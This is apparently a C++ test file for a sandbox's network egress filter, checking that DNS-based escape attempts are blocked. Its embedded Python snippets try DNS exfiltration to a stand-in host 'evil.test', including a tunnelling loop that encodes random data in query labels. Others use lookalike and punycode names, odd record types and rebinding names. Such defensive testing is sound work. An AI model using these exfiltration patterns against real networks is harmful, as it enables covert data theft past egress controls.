#include <gmock/gmock.h>

#include "attacks/egress_attack.h"

// Attacks through names: lookups that carry data out, names that look like others, addresses that
// change after they were judged, resolvers that fail.
namespace carrel::test {
namespace {

using testing::Contains;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

class EgressNamesAttack : public EgressAttack {};
CARREL_AS_BOTH(EgressNamesAttack);

constexpr const char* kLookups =
    "for server in ('11.0.0.53', '8.8.8.8', '127.0.0.1', '198.18.0.1', '10.255.0.2',\n"
    "               '2400:1111::1'):\n"
    "    for name in ('secret.evil.test', 'allowed.test', 'secret.allowed.test'):\n"
    "        attempt('%s at %s' % (name, server), finds, server, name)\n"
    "        attempt('%s at %s by stream' % (name, server),\n"
    "                lambda: finds(server, name, stream=True))\n"
    "attempt('system', lambda: socket.getaddrinfo('secret.evil.test', 443))\n"
    "attempt('allowed by system', lambda: socket.getaddrinfo('allowed.test', 443))\n";

TEST_P(EgressNamesAttack, D08_NoLookupOfADeniedNameReachesAnybody) {
  const Names names = through("allow=allowed.test", kLookups);
  EXPECT_THAT(names, Contains("allowed.test at 11.0.0.53"));
  EXPECT_THAT(names, Contains("allowed.test at 8.8.8.8 by stream"));
  EXPECT_THAT(names, Contains("allowed.test at 2400:1111::1"));
  EXPECT_THAT(names, Contains("allowed by system"));
  EXPECT_THAT(names, Not(Contains(HasSubstr("secret")))) << "a denied name was found";
  EXPECT_THAT(names, Not(Contains("system")));
  EXPECT_THAT(internet().queries(), IsEmpty());
  EXPECT_EQ(reached(), Names{});
  (void)through_outside(
      "attempt('a', finds, '11.0.0.53', 'secret.evil.test')\n"
      "attempt('b', lambda: finds('8.8.8.8', 'secret.evil.test', stream=True))\n");
  EXPECT_THAT(internet().queries(), testing::SizeIs(2));
}

TEST_P(EgressNamesAttack, D09_NothingButAddressesOfAllowedNamesIsTold) {
  const std::string code =
      "import base64, random\n"
      "def rows(name, kind, extra=b'', count=0):\n"
      "    return looked_up('11.0.0.53', question(name, kind, extra, count_extra=count))[1]\n"
      "for kind in (2, 5, 6, 10, 12, 13, 15, 16, 33, 35, 43, 48, 64, 65, 99, 249, 250, 251, 252,\n"
      "             255, 257, 32769, 65534):\n"
      "    for name in ('allowed.test', 'secret.evil.test', '6.6.6.11.in-addr.arpa'):\n"
      "        attempt('%d %s' % (kind, name), rows, name, kind)\n"
      "for data in ('a' * 63, 'aLLoWeD', '_dmarc', '4' * 60):\n"
      "    attempt('label ' + data[:9], rows, data + '.allowed.test', 1)\n"
      "attempt('a byte that no name has', rows, ['se\\x01cret', 'allowed', 'test'], 1)\n"
      "attempt('a dot inside', rows, ['secret.allowed', 'test'], 1)\n"
      "attempt('a nul inside', rows, ['allowed', 'test\\0evil'], 1)\n"
      "option = b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0' + struct.pack('>HHH', 104, 65001, 100) + b'x' * "
      "100\n"
      "attempt('option', rows, 'evil.test', 1, option, 1)\n"
      "for _ in range(20):\n"
      "    junk = bytes(random.randrange(256) for _ in range(random.randrange(12, 200)))\n"
      "    try:\n"
      "        looked_up('11.0.0.53', junk, patience=0.2)\n"
      "    except OSError:\n"
      "        pass\n"
      "attempt('an address, still', rows, 'aLLoWeD.TesT', 1)\n"
      "attempt('another, still', rows, 'allowed.test', 28)\n";
  EXPECT_EQ(through("allow=allowed.test", code), (Names{"an address, still", "another, still"}));
  EXPECT_THAT(internet().queries(), IsEmpty());
  (void)through_outside(
      "attempt('txt', lambda: looked_up('11.0.0.53', question('x.evil.test', 16)))");
  EXPECT_THAT(internet().queries(), Contains("x.evil.test 16"));
}

// CARREL_LOOKUPS=10000 is the long run.
TEST_P(EgressNamesAttack, D09_ThousandsOfLookupsTellNobodyAnything) {
  const std::string count = std::to_string(number_from("CARREL_LOOKUPS", 1000));
  const std::string config = file("many.toml", "[run]\nnetwork_lookups = 100000\n");
  const std::string code =
      "import random\n"
      "found = {'evil': 0, 'wild': 0, 'late': 0}\n"
      "refused = 0\n"
      "for number in range(" +
      count +
      "):\n"
      "    data = '%060x' % random.getrandbits(240)\n"
      "    for zone in ('evil', 'wild'):\n"
      "        code, rows = looked_up('11.0.0.53', question('%s.%s.test' % (data, zone)))\n"
      "        found[zone] += rows\n"
      "        refused += code == 5\n"
      "print(found, refused)\n"
      "attempt('evil', lambda: found['evil'])\n"
      "attempt('wild', lambda: found['wild'])\n"
      "attempt('refused', lambda: refused)\n";
  EXPECT_EQ(through("allow=*.wild.test", code, {"--config", config}), Names{"wild"});
  EXPECT_THAT(internet().queries(), IsEmpty());
  EXPECT_EQ(reached(), Names{});
  // With the budget as it is, most of them are refused.
  EXPECT_EQ(through("allow=*.wild.test", code), (Names{"wild", "refused"}));
  EXPECT_THAT(internet().queries(), IsEmpty());
}

TEST_P(EgressNamesAttack, D16_NamesThatLookLikeAllowedOnesAreOthers) {
  const std::string code =
      "for name in ('evilallowed.test', 'allowed.test.evil.test', 'allowedXtest', 'allowed.tes',\n"
      "             'llowed.test', 'xn--llowed-2ve.test', 'allowed.test..', '.allowed.test',\n"
      "             'wild.test', 'evilwild.test', 'a.wild.test.evil.test', 'a.wild.tes',\n"
      "             '.wild.test', '*.wild.test', 'a..wild.test', '-.wild.test', "
      "'allowed%2etest'):\n"
      "    attempt(name + ' by name', lambda: socket.getaddrinfo(name, 7000))\n"
      "    attempt(name + ' by tunnel', tunnelled, name + ':7000')\n"
      "    attempt(name + ' by socks', lambda: socks(name.encode(), 7000) == 0)\n"
      "for name in ('allowed.test.', 'ALLOWED.TEST', 'a.b.wild.test', 'A.Wild.test.'):\n"
      "    attempt(name, echoes, name)\n";
  EXPECT_EQ(through("allow=tcp:allowed.test:7000,tcp:*.wild.test:7000", code),
            (Names{"allowed.test.", "ALLOWED.TEST", "a.b.wild.test", "A.Wild.test."}));
  for (const std::string& one : internet().queries()) {
    EXPECT_THAT(one, testing::AnyOf("allowed.test 1", "a.b.wild.test 1", "a.wild.test 1"));
  }
}

TEST_P(EgressNamesAttack, D20_KeysForEncryptedHellosAreNotTold) {
  const std::string code =
      "for kind in (64, 65):\n"
      "    for server in ('11.0.0.53', '8.8.8.8'):\n"
      "        attempt('%d at %s' % (kind, server), lambda:\n"
      "                looked_up(server, question('allowed.test', kind)) != (0, 0))\n"
      "attempt('allowed', finds, '11.0.0.53', 'allowed.test')\n";
  EXPECT_EQ(through("full", code), Names{"allowed"});
  EXPECT_THAT(internet().queries(), IsEmpty());
}

TEST_P(EgressNamesAttack, D27_AResolverThatFailsOpensNothing) {
  const std::string code =
      "def within(name):\n"
      "    begun = time.time()\n"
      "    try:\n"
      "        return echoes(name)\n"
      "    finally:\n"
      "        if time.time() - begun > 15:\n"
      "            print('through late', flush=True)\n"
      "for name in ('silent.test', 'failing.test', 'garbage.test', 'foreign.test', "
      "'no.such.test'):\n"
      "    attempt(name, within, name)\n"
      "attempt('slow', echoes, 'slow.test')\n"
      "attempt('allowed', echoes, 'allowed.test')\n";
  EXPECT_EQ(through("full", code), (Names{"slow", "allowed"}));
  EXPECT_EQ(reached(), Names{"tcp 11.1.1.1 7000"});
  EXPECT_THAT(internet().queries(), testing::IsSupersetOf({"silent.test 1", "garbage.test 1"}));
  // Without any resolver, names lead nowhere, and addresses go on.
  write_text(internet().directory() + "/resolv.conf", "nameserver 11.0.0.77\n");
  EXPECT_EQ(through("full",
                    "attempt('name', echoes, 'allowed.test')\n"
                    "attempt('address', echoes, '11.6.6.6')\n"),
            Names{"address"});
}

TEST_P(EgressNamesAttack, R108_AnAddressIsJudgedAtEveryConnection) {
  const std::string code =
      "attempt('first', echoes, 'turning.test')\n"
      "for _ in range(3):\n"
      "    attempt('again', echoes, 'turning.test')\n"
      "attempt('inward', echoes, 'inside.test')\n"
      "attempt('twice', echoes, 'twice.test')\n";
  EXPECT_EQ(through("allow=tcp:turning.test:7000,tcp:inside.test:7000,tcp:twice.test:7000", code),
            (Names{"again", "first", "twice"}));  // "again" goes where "first" went, for a moment
  EXPECT_EQ(reached(), Names{"tcp 11.1.1.1 7000"});
  EXPECT_EQ(through("allow=tcp:turning.test:7000", "attempt('later', echoes, 'turning.test')\n"),
            Names{});
  EXPECT_EQ(through("allow=tcp:inside.test:7000,tcp:10.1.2.3:7000",
                    "attempt('listed', echoes, 'inside.test')\n"),
            Names{"listed"});
}

}  // namespace
}  // namespace carrel::test
